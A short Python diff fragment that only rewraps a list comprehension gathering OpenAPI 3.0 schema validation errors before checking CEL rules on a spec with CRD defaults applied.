-    problems += [".".join(map(str, e.absolute_path)) + ": " + e.message
-                 for e in OAS30Validator(SPEC_SCHEMA).iter_errors(spec)]
+    problems += [
+        ".".join(map(str, e.absolute_path)) + ": " + e.message for e in OAS30Validator(SPEC_SCHEMA).iter_errors(spec)
+    ]
     if problems:
         return problems
     return cel_violations(apply_crd_defaults(spec, SPEC_SCHEMA))
